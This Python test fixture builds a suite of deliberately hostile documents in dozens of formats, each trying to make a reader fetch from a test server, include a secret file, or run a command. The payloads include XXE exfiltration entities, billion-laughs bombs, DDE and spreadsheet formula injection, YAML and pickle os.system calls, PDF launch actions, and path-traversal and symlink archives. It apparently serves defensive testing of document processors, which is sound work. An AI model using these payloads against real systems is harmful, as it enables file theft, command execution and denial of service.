"""Documents that ask their reader to fetch, include, run or write something: one of each way that is known.

Each holds a sentence of its own as well. What is asked for is a server of the test's (`url`) or a file with
a secret outside the folder (`secret`); whether anybody asked is seen there.
"""

from __future__ import annotations

import base64
import gzip
import io
import os
import re
import tarfile
import zipfile
from email.message import EmailMessage
from pathlib import Path

SENTENCE = "The minutes of the meeting were read and approved by everybody who was there."

_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_SLIDES = "http://schemas.openxmlformats.org/presentationml/2006/main"
_DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/main"
_TYPE = "application/vnd.openxmlformats-officedocument."


def hostile_documents(url: str, secret: Path) -> dict[str, bytes]:
    """File name -> content."""
    found: dict[str, str | bytes] = {
        **_web_pages(url, secret),
        **_xml(url, secret),
        **_marked_up(url, secret),
        **_rich_text(url, secret),
        **_word(url, secret),
        **_sheets_and_slides(url, secret),
        **_open_documents(url, secret),
        **_books(url, secret),
        **_pdfs(url, secret),
        **_mails(url, secret),
    }
    documents = {name: text.encode() if isinstance(text, str) else text for name, text in found.items()}
    milder = {f"one-{name}": _with_one_entity(content, secret) for name, content in documents.items()}
    documents |= {name: content for name, content in milder.items() if content not in documents.values()}
    return documents | _archives(url, secret, documents)


def _with_one_entity(content: bytes, secret: Path) -> bytes:
    """The same with one external entity only, where many would be refused for their number."""
    if content.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(content)) as package:
            parts = {name: package.read(name) for name in package.namelist() if name.count("..") == 0}
        changed = {name: _with_one_entity(part, secret) for name, part in parts.items()}
        return _package(dict(changed)) if changed != parts else content
    one = b'<!DOCTYPE \\1 [<!ENTITY all SYSTEM "file://%b">]>' % os.fsencode(secret)
    return re.sub(rb"<!DOCTYPE (\S+) SYSTEM .*?\]>", one, content, flags=re.DOTALL)


def _doctype(url: str, secret: Path, root: str) -> str:
    """Every kind of entity; `&all;` uses them."""
    return f"""<!DOCTYPE {root} SYSTEM "{url}/external.dtd" [
        <!ENTITY % remote SYSTEM "{url}/parameter.dtd"> %remote;
        <!ENTITY % file SYSTEM "file://{secret}">
        <!ENTITY % sender "<!ENTITY &#37; send SYSTEM '{url}/?%file;'>"> %sender; %send;
        <!ENTITY local SYSTEM "file://{secret}">
        <!ENTITY passwords SYSTEM "file:///etc/passwd">
        <!ENTITY server SYSTEM "{url}/entity">
        <!ENTITY public PUBLIC "-//nobody//any" "{url}/public">
        <!ENTITY all "&local; &passwords; &server; &public;">
    ]>"""


def _web_pages(url: str, secret: Path) -> dict[str, str | bytes]:
    tags = f"""<base href="{url}/base/"><link rel="stylesheet" href="{url}/style.css">
        <link rel="prefetch" href="{url}/prefetch"><link rel="dns-prefetch" href="{url}">
        <link rel="import" href="{url}/import.html"><link rel="icon" href="{url}/icon.ico">
        <meta http-equiv="refresh" content="0;url={url}/refresh">
        <style>@import url({url}/imported.css); body {{ background: url({url}/background.png) }}</style>
        <script src="{url}/script.js"></script><script>fetch("{url}/fetched"); new
        Image().src="{url}/js"</script>
        </head><body background="{url}/body.png" onload="location='{url}/onload'"><p>{SENTENCE}</p>
        <img src="{url}/image.png" srcset="{url}/large.png 2x"><img src="file://{secret}"><img
        src="relative.png">
        <iframe src="{url}/frame"></iframe><iframe src="file:///etc/passwd"></iframe><iframe srcdoc="<img
        src={url}>">
        </iframe><object data="{url}/object"></object><embed src="{url}/embed"><video src="{url}/video"
        poster="{url}">
        <audio src="{url}/audio" autoplay></audio><applet code="{url}/applet.class"></applet>
        <form action="{url}/form"><input type="image" src="{url}/submit.png"></form>
        <a href="{url}/link" ping="{url}/ping">link</a><svg><image href="{url}/svg.png"/><use
        href="{url}/use#x"/></svg>
        <!--#include virtual="/etc/passwd" --><!--#exec cmd="touch owned" --><?php include "{secret}" ?>"""
    page = f"<!doctype html><html manifest='{url}/manifest'><head><title>Minutes</title>{tags}</body></html>"
    return {
        "page.html": page,
        "frames.html": f'<frameset><frame src="{url}/frame"><frame '
        f'src="file://{secret}"></frameset>{SENTENCE}',
        "page.xhtml": f"""<?xml version="1.0"?><?xml-stylesheet href="{url}/style.xsl" type="text/xsl"?>
            {_doctype(url, secret, "html")}<html
        xmlns="http://www.w3.org/1999/xhtml"><head><title>&all;</title></head>
            <body><p>{SENTENCE} &all;</p><img src="{url}/image.png"/></body></html>""",
        "page.mhtml": f"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\n"
        f"Content-Type: text/html\nContent-Location: {url}/page\n\n{page}\n--x--\n",
    }


def _xml(url: str, secret: Path) -> dict[str, str | bytes]:
    drawing = f"""<?xml version="1.0"?>{_doctype(url, secret, "svg")}
        <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="run()">
        <style>@import url("{url}/style.css");</style><script href="{url}/script.js"/>
        <text>{SENTENCE} &all;</text><image xlink:href="{url}/image.png"/><use xlink:href="{url}/use.svg#x"/>
        <image href="file://{secret}"/><text><tref xlink:href="{url}/text.svg#t"/></text>
        <foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml"
        src="{url}/frame"/></foreignObject></svg>"""
    laughs = "".join(f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, 12))
    plain = f"""<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{url}/style.xsl"?>
        {_doctype(url, secret, "minutes")}
        <minutes xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x
        {url}/schema.xsd"
        xsi:noNamespaceSchemaLocation="{url}/none.xsd" xmlns:xi="http://www.w3.org/2001/XInclude">
        <p>{SENTENCE} &all;</p><xi:include href="file://{secret}" parse="text"/><xi:include
        href="{url}/x.xml"/>
        </minutes>"""
    style = f"""<?xml version="1.0"?><xsl:stylesheet version="1.0"
        xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
        <xsl:import href="{url}/import.xsl"/><xsl:include href="{url}/include.xsl"/><xsl:template match="/">
        <xsl:value-of select="document('file://{secret}')"/>{SENTENCE}</xsl:template></xsl:stylesheet>"""
    feed = f"""<?xml version="1.0"?>{_doctype(url, secret, "rss")}<rss
        version="2.0"><channel><title>Minutes</title>
        <item><title>One</title><description>{SENTENCE} &all;</description><enclosure url="{url}/sound.mp3"/>
        <link>{url}/item</link></item></channel></rss>"""
    wide = plain.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>', 1)
    return {
        "drawing.svg": drawing,
        "drawing.svgz": gzip.compress(drawing.encode(), mtime=0),
        "minutes.xml": plain,
        "wide.xml": wide.encode("utf-16"),
        "laughs.xml": f'<!DOCTYPE m [<!ENTITY a0 "ha">{laughs}]><m>{SENTENCE} &a11;</m>',
        "quadratic.xml": f'<!DOCTYPE m [<!ENTITY a "{"a" * 50_000}">]><m>{"&a;" * 50_000}</m>',
        "style.xsl": style,
        "feed.rss": feed,
        "feed.atom": feed,
        "place.kml": f"<kml><NetworkLink><Link><href>{url}/place</href></Link></NetworkLink>{SENTENCE}</kml>",
        "list.plist": f"{_doctype(url, secret, 'plist')}<plist><string>&all; {SENTENCE}</string></plist>",
    }


def _marked_up(url: str, secret: Path) -> dict[str, str | bytes]:
    cells = f'=WEBSERVICE("{url}/cell"),=cmd|\'/c touch owned\'!A1,=IMPORTDATA("{url}"),@SUM(1),{SENTENCE}\n'
    return {
        "minutes.md": f"# Minutes\n\n{SENTENCE}\n\n![image]({url}/image.png)\n\n<img src='{url}/raw.png'>\n\n"
        f"[link]({url}/link)\n\n{{{{ include '{secret}' }}}}\n\n!include({secret})\n\n--8<-- '{secret}'\n",
        "minutes.rst": f"{SENTENCE}\n\n.. include:: {secret}\n\n.. raw:: html\n   :url: {url}/raw\n\n"
        f".. csv-table:: t\n   :file: {secret}\n\n.. literalinclude:: {secret}\n\n.. image:: "
        f"{url}/image.png\n",
        "minutes.tex": f"\\input{{{secret}}}\\include{{{secret}}}\\immediate\\write18{{touch owned}}"
        f"\\openout\\x=owned \\verbatiminput{{/etc/passwd}}\\includegraphics{{{url}/x}} {SENTENCE}",
        "minutes.org": f'#+INCLUDE: "{secret}"\n#+SETUPFILE: {url}/setup\n{SENTENCE}\n[[{url}/image.png]]\n',
        "minutes.adoc": f"include::{secret}[]\ninclude::{url}/part[]\n"
        f"image::{url}/image.png[]\n\n{SENTENCE}\n",
        "minutes.textile": f"!{url}/image.png!\n\n{SENTENCE}\n",
        "minutes.wiki": f"[[File:{url}/image.png]] {{{{{url}/template}}}} {SENTENCE}\n",
        "minutes.yaml": f"run: !!python/object/apply:os.system ['touch owned']\nsay: {SENTENCE}\n"
        f"read: !include {secret}\n",
        "minutes.json": f'{{"$ref": "{url}/schema", "$schema": "file://{secret}", "text": "{SENTENCE}"}}',
        "minutes.toml": f'text = "{SENTENCE}"\ninclude = "{secret}"\n',
        "minutes.csv": "a,b,c,d,e\n" + cells,
        "minutes.tsv": "a\tb\n" + cells.replace(",", "\t"),
        "minutes.ipynb": f'{{"nbformat": 4, "nbformat_minor": 5, "metadata": {{}}, "cells": ['
        f'{{"cell_type": "code",'
        f' "metadata": {{}}, "source": "open(\'{secret}\').read()", "execution_count": 1, '
        f'"outputs": [{{"output_type":'
        f' "display_data", "metadata": {{}}, "data": '
        f'{{"text/html": "<img src={url}/out>{SENTENCE}"}}}}]}}]}}',
        "minutes.vcf": f"BEGIN:VCARD\nVERSION:4.0\nFN:Somebody\nPHOTO;VALUE=uri:{url}/photo\nSOUND:file://{secret}\n"
        f"NOTE:{SENTENCE}\nEND:VCARD\n",
        "minutes.ics": f"BEGIN:VCALENDAR\nVERSION:2.0\nBEGIN:VEVENT\nSUMMARY:{SENTENCE}\n"
        f"ATTACH:{url}/attached\n"
        f"ATTACH:file://{secret}\nEND:VEVENT\nEND:VCALENDAR\n",
        "minutes.url": f"[InternetShortcut]\nURL={url}/shortcut\nIconFile={url}/icon\n",
        "minutes.desktop": f"[Desktop Entry]\nType=Application\nExec=touch "
        f"owned\nIcon={url}/icon\nName={SENTENCE}\n",
        "minutes.m3u": f"#EXTM3U\n{url}/sound\nfile://{secret}\n",
        "minutes.srt": f"1\n00:00:00,000 --> 00:00:01,000\n<img src='{url}/x'>{SENTENCE}\n",
        "minutes.pkl": b"cposix\nsystem\n(S'touch owned'\ntR.",
        "minutes.ps": f"%!PS\n({secret}) (r) file 999 string readstring pop print ({SENTENCE}) show\n",
        "minutes.sh": f"#!/bin/sh\ntouch owned; curl {url}/run; cat {secret} # {SENTENCE}\n",
        "minutes.py": f"import urllib.request as u\nu.urlopen('{url}/run')\nopen('owned', 'w') # "
        f"{SENTENCE}\n",
    }


def _rich_text(url: str, secret: Path) -> dict[str, str | bytes]:
    def field(instruction: str) -> str:
        return rf"{{\field{{\*\fldinst {{{instruction}}}}}{{\fldrslt }}}}"

    fields = (
        field(rf'INCLUDETEXT "{url}/text"')
        + field(rf'INCLUDETEXT "{secret}"')
        + field(rf'INCLUDEPICTURE "{url}/picture" \\d')
        + field(rf'IMPORT "{url}/picture"')
        + field(r"DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe touch")
        + field(rf'HYPERLINK "{url}/link"')
    )
    return {
        "minutes.rtf": rf"{{\rtf1\ansi{{\*\template {url}/template.dot}}{{\*\filetbl{{\file\fid1 {secret}}}}}"
        rf"{SENTENCE}\par {fields}{{\object\objautlink\objupdate{{\*\objclass Word.Document}}"
        rf"{{\*\objdata 0105000002000000}}}}{{\subdocument1}}\par }}"
    }


def _package(parts: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(zipfile.ZipInfo(name), content)
    return out.getvalue()


def _relations(*relations: tuple[str, str, bool]) -> str:
    """(kind, target, whether it lies outside the package), numbered r1, r2, …"""
    entries = "".join(
        f'<Relationship Id="r{number}" Type="{_OFFICE}/{kind}" Target="{target}"'
        f"{' TargetMode=' + chr(34) + 'External' + chr(34) if external else ''}/>"
        for number, (kind, target, external) in enumerate(relations, 1)
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{_PACKAGE}/relationships">{entries}</Relationships>'


def _office(main: str, kind: str, parts: dict[str, str | bytes]) -> bytes:
    types = (
        f'<?xml version="1.0"?><Types xmlns="{_PACKAGE}/content-types">'
        f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main}" ContentType="{_TYPE}{kind}.main+xml"/></Types>'
    )
    return _package(
        {
            "[Content_Types].xml": types,
            "_rels/.rels": _relations(("officeDocument", main, False)),
            **parts,
        }
    )


def _word(url: str, secret: Path) -> dict[str, str | bytes]:
    def field(instruction: str) -> str:
        return (
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
            f'{instruction} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        )

    fields = "".join(
        map(
            field,
            (
                f"INCLUDETEXT &quot;{url}/text&quot;",
                f"INCLUDETEXT &quot;{secret}&quot;",
                f"INCLUDEPICTURE &quot;{url}/picture&quot; \\d",
                "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k touch owned&quot;",
                f"LINK Word.Document &quot;{url}/linked&quot;",
                f"DATABASE \\d &quot;{secret}&quot;",
            ),
        )
    )
    picture = (
        f'<w:drawing><a:graphic xmlns:a="{_DRAWING}"><a:graphicData><a:blip r:link="r2"/></a:graphicData>'
        "</a:graphic></w:drawing>"
    )
    body = (
        f"<w:body><w:p><w:r><w:t>{SENTENCE}</w:t></w:r></w:p><w:p>{fields}</w:p><w:p><w:r>{picture}</w:r></w:p>"
        '<w:altChunk r:id="r3"/><w:p><w:hyperlink r:id="r4"><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p>'
        '<w:subDoc r:id="r6"/></w:body>'
    )
    start = f'<w:document xmlns:w="{_WORD}" xmlns:r="{_OFFICE}">'
    parts: dict[str, str | bytes] = {
        "word/document.xml": f'<?xml version="1.0"?>{start}{body}</w:document>',
        "word/_rels/document.xml.rels": _relations(
            ("settings", "settings.xml", False),
            ("image", f"{url}/image.png", True),
            ("aFChunk", f"{url}/chunk.html", True),
            ("hyperlink", f"{url}/link", True),
            ("oleObject", f"{url}/object!", True),
            ("subDocument", f"file://{secret}", True),
            ("frame", f"{url}/frame", True),
            ("image", f"file://{secret}", True),
        ),
        "word/settings.xml": f'<w:settings xmlns:w="{_WORD}" '
        f'xmlns:r="{_OFFICE}"><w:attachedTemplate r:id="r1"/>'
        "</w:settings>",
        "word/_rels/settings.xml.rels": _relations(
            ("attachedTemplate", f"{url}/template.dotm", True), ("mailMergeSource", f"file://{secret}", True)
        ),
    }
    entities = dict(parts)
    entities["word/document.xml"] = (
        f'<?xml version="1.0"?>{_doctype(url, secret, "w:document")}{start}'
        f"{body.replace(SENTENCE, SENTENCE + ' &all;')}</w:document>"
    )
    of_types = dict(parts)
    of_types["docProps/core.xml"] = (
        f'{_doctype(url, secret, "cp:coreProperties")}<cp:coreProperties xmlns:cp="urn:c" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&all;</dc:title></cp:coreProperties>'
    )
    kind = "wordprocessingml.document"
    return {
        "minutes.docx": _office("word/document.xml", kind, parts),
        "entities.docx": _office("word/document.xml", kind, entities),
        "properties.docx": _office("word/document.xml", kind, of_types),
        "minutes.dotx": _office("word/document.xml", "wordprocessingml.template", parts),
    }


def _sheets_and_slides(url: str, secret: Path) -> dict[str, str | bytes]:
    doctype = _doctype(url, secret, "worksheet")
    row = (
        f'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>{SENTENCE} &all;</t></is></c>'
        f'<c r="B1"><f>WEBSERVICE("{url}/cell")</f><v>1</v></c><c r="C1"><f>[1]Sheet1!A1</f><v>2</v></c>'
        "<c r=\"D1\"><f>cmd|'/c touch owned'!A0</f><v>3</v></c></row></sheetData>"
    )
    book: dict[str, str | bytes] = {
        "xl/workbook.xml": f'<workbook xmlns="{_SHEET}" xmlns:r="{_OFFICE}"><sheets><sheet '
        f'name="One" sheetId="1" '
        'r:id="r1"/></sheets><externalReferences><externalReference '
        'r:id="r2"/></externalReferences></workbook>',
        "xl/_rels/workbook.xml.rels": _relations(
            ("worksheet", "worksheets/sheet1.xml", False),
            ("externalLink", "externalLinks/externalLink1.xml", False),
            ("connections", "connections.xml", False),
        ),
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{_SHEET}">{row.replace("&all;", "")}</worksheet>',
        "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{_SHEET}" xmlns:r="{_OFFICE}">'
        '<externalBook r:id="r1"/></externalLink>',
        "xl/externalLinks/_rels/externalLink1.xml.rels": _relations(
            ("externalLinkPath", f"{url}/book.xlsx", True)
        ),
        "xl/connections.xml": f'<connections xmlns="{_SHEET}"><connection id="1" type="4" refreshOnLoad="1">'
        f'<webPr url="{url}/table" sourceData="1"/></connection></connections>',
    }
    entities = dict(book)
    entities["xl/worksheets/sheet1.xml"] = f'{doctype}<worksheet xmlns="{_SHEET}">{row}</worksheet>'
    entities["xl/sharedStrings.xml"] = (
        f'{_doctype(url, secret, "sst")}<sst xmlns="{_SHEET}"><si><t>&all;</t></si></sst>'
    )
    shape = f"<p:sp><p:txBody><a:p><a:r><a:t>{SENTENCE} &all;</a:t></a:r></a:p></p:txBody></p:sp>"
    tree = f"<p:cSld><p:spTree>{shape}</p:spTree></p:cSld>"
    slide = f'<p:sld xmlns:p="{_SLIDES}" xmlns:a="{_DRAWING}">{tree}</p:sld>'
    slides: dict[str, str | bytes] = {
        "ppt/presentation.xml": f'<p:presentation xmlns:p="{_SLIDES}" xmlns:r="{_OFFICE}"><p:sldIdLst>'
        '<p:sldId id="256" r:id="r1"/></p:sldIdLst></p:presentation>',
        "ppt/_rels/presentation.xml.rels": _relations(("slide", "slides/slide1.xml", False)),
        "ppt/slides/slide1.xml": slide.replace("&all;", ""),
        "ppt/slides/_rels/slide1.xml.rels": _relations(
            ("video", f"{url}/video", True), ("image", f"file://{secret}", True)
        ),
    }
    with_entities = dict(slides)
    with_entities["ppt/slides/slide1.xml"] = _doctype(url, secret, "p:sld") + slide
    sheet, presentation = "spreadsheetml.sheet", "presentationml.presentation"
    return {
        "minutes.xlsx": _office("xl/workbook.xml", sheet, book),
        "entities.xlsx": _office("xl/workbook.xml", sheet, entities),
        "minutes.pptx": _office("ppt/presentation.xml", presentation, slides),
        "entities.pptx": _office("ppt/presentation.xml", presentation, with_entities),
        "minutes.slk": f'ID;PWXL;N;E\nC;Y1;X1;K"{SENTENCE}";EWEBSERVICE("{url}/cell")\nE\n',
        "minutes.iqy": f"WEB\n1\n{url}/query\n",
    }


def _open_documents(url: str, secret: Path) -> dict[str, str | bytes]:
    spaces = "".join(
        f' xmlns:{prefix}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
        for prefix, name in (
            ("office", "office"),
            ("text", "text"),
            ("table", "table"),
            ("draw", "drawing"),
            ("meta", "meta"),
            ("script", "script"),
        )
    )
    linked = f"""<text:section text:name="s"><text:section-source xlink:href="{url}/section"/></text:section>
        <draw:frame><draw:image xlink:href="{url}/image.png"/><draw:object
        xlink:href="{url}/object"/></draw:frame>
        <draw:frame><draw:image xlink:href="file://{secret}"/></draw:frame><office:event-listeners>
        <script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/>
        </office:event-listeners><text:a xlink:href="{url}/link">link</text:a>
        <text:dde-connection office:dde-application="cmd" office:dde-topic="touch"/>"""
    bodies = {
        "text": f"<text:p>{SENTENCE} ALL</text:p>{linked}",
        "spreadsheet": f'<table:table table:name="t"><table:table-source '
        f'xlink:href="{url}/table"/><table:table-row>'
        f'<table:table-cell table:formula="of:=WEBSERVICE(&quot;{url}&quot;)"><text:p>{SENTENCE} ALL</text:p>'
        "</table:table-cell></table:table-row></table:table>",
        "presentation": f'<draw:page draw:name="p"><text:p>{SENTENCE} ALL</text:p>{linked}</draw:page>',
    }
    meta = f'<office:document-meta{spaces} xmlns:xlink="http://www.w3.org/1999/xlink"><office:meta>' + (
        f'<meta:auto-reload xlink:href="{url}/reload"/><meta:template xlink:href="{url}/template"/>'
        "</office:meta></office:document-meta>"
    )
    found: dict[str, str | bytes] = {}
    for ending, kind in (("odt", "text"), ("ods", "spreadsheet"), ("odp", "presentation")):
        start = f'<office:document-content{spaces} xmlns:xlink="http://www.w3.org/1999/xlink"><office:body>'
        content = (
            f"{start}<office:{kind}>{bodies[kind]}</office:{kind}></office:body></office:document-content>"
        )
        for name, doctype, used in (
            ("minutes", "", ""),
            ("entities", _doctype(url, secret, "office:document-content"), "&all;"),
        ):
            found[f"{name}.{ending}"] = _package(
                {
                    "mimetype": f"application/vnd.oasis.opendocument.{kind}",
                    "content.xml": doctype + content.replace("ALL", used),
                    "meta.xml": meta,
                    "META-INF/manifest.xml": "<manifest/>",
                }
            )
        found[f"flat.f{ending}"] = (
            '<?xml version="1.0"?>'
            + _doctype(url, secret, "office:document")
            + content.replace("ALL", "&all;")
        ).replace("document-content", "document")
    return found


def _books(url: str, secret: Path) -> dict[str, str | bytes]:
    doctype = _doctype(url, secret, "html")
    chapter = f"""<?xml version="1.0"?>{doctype}<html
        xmlns="http://www.w3.org/1999/xhtml"><head><title>&all;</title>
        <link rel="stylesheet" href="{url}/style.css"/><script src="{url}/script.js"/></head>
        <body><p>{SENTENCE} &all;</p><img src="{url}/image.png"/><img
        src="../../../../etc/passwd"/></body></html>"""
    opf = f"""{_doctype(url, secret, "package")}<package xmlns="http://www.idpf.org/2007/opf" version="3.0">
        <metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&all;
        Minutes</dc:title></metadata><manifest>
        <item id="a" href="a.xhtml" media-type="application/xhtml+xml"/>
        <item id="b" href="{url}/chapter.xhtml" media-type="application/xhtml+xml"
        properties="remote-resources"/>
        <item id="c" href="../../../../../../../../etc/passwd" media-type="application/xhtml+xml"/>
        <item id="d" href="file://{secret}" media-type="application/xhtml+xml"/></manifest>
        <spine><itemref idref="a"/><itemref idref="b"/><itemref idref="c"/><itemref
        idref="d"/></spine></package>"""
    container = (
        f"{_doctype(url, secret, 'container')}<container "
        f'xmlns="urn:oasis:names:tc:opendocument:xmlns:container">'
        '<rootfiles><rootfile full-path="book.opf" '
        'media-type="application/oebps-package+xml"/></rootfiles></container>'
    )

    def book(*, strip: bool) -> bytes:
        def part(text: str) -> str:
            for root in ("html", "package", "container"):
                text = text.replace(_doctype(url, secret, root), "") if strip else text
            return text.replace("&all;", "") if strip else text

        return _package(
            {
                "mimetype": "application/epub+zip",
                "META-INF/container.xml": part(container),
                "book.opf": part(opf),
                "a.xhtml": part(chapter),
            }
        )

    fiction = f"""<?xml version="1.0"?>{_doctype(url, secret, "FictionBook")}
        <FictionBook xmlns="http://www.gribuser.ru/xml/fictionbook/2.0"
        xmlns:l="http://www.w3.org/1999/xlink"><body>
        <section><p>{SENTENCE} &all;</p><image l:href="{url}/image.png"/></section></body></FictionBook>"""
    return {"minutes.epub": book(strip=True), "entities.epub": book(strip=False), "minutes.fb2": fiction}


def _pdfs(url: str, secret: Path) -> dict[str, str | bytes]:
    actions = {
        "uri": f"<< /S /URI /URI ({url}/uri) >>",
        "launch": "<< /S /Launch /F (/usr/bin/touch) /Unix << /F (/usr/bin/touch) /P (owned) >> >>",
        "elsewhere": f"<< /S /GoToR /F (file://{secret}) /D [0 /Fit] >>",
        "embedded": f"<< /S /GoToE /F << /FS /URL /F ({url}/embedded) >> /D [0 /Fit] >>",
        "submit": f"<< /S /SubmitForm /F << /FS /URL /F ({url}/submit) >> /Flags 4 >>",
        "import": f"<< /S /ImportData /F (file://{secret}) >>",
        "script": f"<< /S /JavaScript /JS (app.launchURL\\('{url}/script'\\); "
        f"this.submitForm\\('{url}/js'\\);) >>",
        "movie": f"<< /S /Rendition /R << /S /MR /C << /S /MCD /D << /FS /URL /F ({url}/movie) >> >> >> >>",
    }
    found: dict[str, str | bytes] = {}
    for name, action in actions.items():
        found[f"{name}.pdf"] = _pdf(f"/OpenAction {action} /AA << /WC {action} >>", f"/AA << /O {action} >>")
    elsewhere = f"<< /Length 0 /F << /FS /URL /F ({url}/stream) >> >>"
    found["stream.pdf"] = _pdf("", f"/Thumb 6 0 R /Metadata 6 0 R /PieceInfo {elsewhere}", elsewhere)
    found["local.pdf"] = _pdf("", "/Metadata 6 0 R", f"<< /Length 0 /F (file://{secret}) >>")
    form = f"{_doctype(url, secret, 'xdp')}<xdp><template>&all;</template></xdp>"
    stream = f"<< /Length {len(form)} >>\nstream\n{form}\nendstream"
    found["form.pdf"] = _pdf("/AcroForm << /XFA 6 0 R /Fields [] >> /Metadata 6 0 R", "", stream)
    found["reference.pdf"] = _pdf(
        "",
        "/Resources << /XObject << /X 6 0 R >> /Font << /F1 4 0 R >> >>",
        "<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Length 0 /Ref << /F "
        f"<< /FS /URL /F ({url}/page) >> /Page 0 >> >>\nstream\n\nendstream",
    )
    return found


def _pdf(catalog: str, page: str, extra: str = "null") -> bytes:
    text = f"BT /F1 12 Tf 72 720 Td ({SENTENCE}) Tj ET"
    resources = "" if "/Resources" in page else "/Resources << /Font << /F1 4 0 R >> >>"
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R {resources} {page} >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        f"<< /Length {len(text)} >>\nstream\n{text}\nendstream",
        extra,
    ]
    out, offsets = io.BytesIO(b"%PDF-1.7\n"), []
    out.seek(0, io.SEEK_END)
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1"))
    start = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    out.write("".join(f"{offset:010d} 00000 n \n" for offset in offsets).encode())
    out.write(f"trailer << /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n".encode())
    return out.getvalue()


def _mails(url: str, secret: Path) -> dict[str, str | bytes]:
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "a@example.org", "b@example.org", "Minutes"
    mail["List-Unsubscribe"] = f"<{url}/unsubscribe>"
    mail["Disposition-Notification-To"] = "a@example.org"
    mail.set_content(SENTENCE)
    mail.add_alternative(f"<img src='{url}/pixel.png'><p>{SENTENCE}</p>", subtype="html")
    outside = (
        f"From: a@example.org\nSubject: Minutes\nMIME-Version: 1.0\nContent-Type: "
        f"multipart/mixed; boundary=x\n\n"
        f"--x\nContent-Type: text/plain\n\n{SENTENCE}\n"
        f"--x\nContent-Type: message/external-body; access-type=URL; "
        f'URL="{url}/body"\n\nContent-Type: text/plain\n\n'
        f'--x\nContent-Type: message/external-body; access-type=local-file; name="{secret}"\n\n'
        "Content-Type: text/plain\n\n"
        "--x\nContent-Type: text/plain\nContent-Disposition: attachment; "
        'filename="../../owned"\n\nowned\n--x--\n'
    )
    return {
        "minutes.eml": bytes(mail),
        "outside.eml": outside,
        "minutes.mbox": f"From a@example.org Mon Jan  1 00:00:00 2024\n{outside}\n\n",
    }


def _archives(url: str, secret: Path, documents: dict[str, bytes]) -> dict[str, bytes]:
    kept = {
        name: documents[name]
        for name in ("page.html", "minutes.xml", "entities.docx", "uri.pdf", "minutes.eml")
    }
    climbing = io.BytesIO()
    with zipfile.ZipFile(climbing, "w") as package:
        climbing_names = [
            "../owned.txt",
            "/tmp/owned.txt",
            "..\\owned.txt",
            "C:\\owned.txt",
            "a/../../owned.txt",
        ]
        for name in climbing_names:
            package.writestr(name, SENTENCE)
        link = zipfile.ZipInfo("link.txt")
        link.external_attr = 0o120777 << 16
        package.writestr(link, str(secret))
    tape = io.BytesIO()
    with tarfile.open(fileobj=tape, mode="w") as archive:
        for name, content in {**kept, "../owned.txt": SENTENCE.encode(), "/tmp/owned.txt": b"owned"}.items():
            about = tarfile.TarInfo(name)
            about.size = len(content)
            archive.addfile(about, io.BytesIO(content))
        for name, kind, target in (
            ("soft.txt", tarfile.SYMTYPE, str(secret)),
            ("hard.txt", tarfile.LNKTYPE, "/etc/passwd"),
            ("device.txt", tarfile.CHRTYPE, ""),
            ("pipe.txt", tarfile.FIFOTYPE, ""),
        ):
            about = tarfile.TarInfo(name)
            about.type, about.linkname = kind, target
            archive.addfile(about)
    encoded = base64.b64encode(documents["page.html"]).decode()
    return {
        "all.zip": _package({**kept, "inner.zip": _package(dict(kept))}),
        "climbing.zip": climbing.getvalue(),
        "all.tar": tape.getvalue(),
        "all.tar.gz": gzip.compress(tape.getvalue(), mtime=0),
        "data.html": f'<p>{SENTENCE}</p><iframe src="data:text/html;base64,{encoded}">'.encode(),
    }
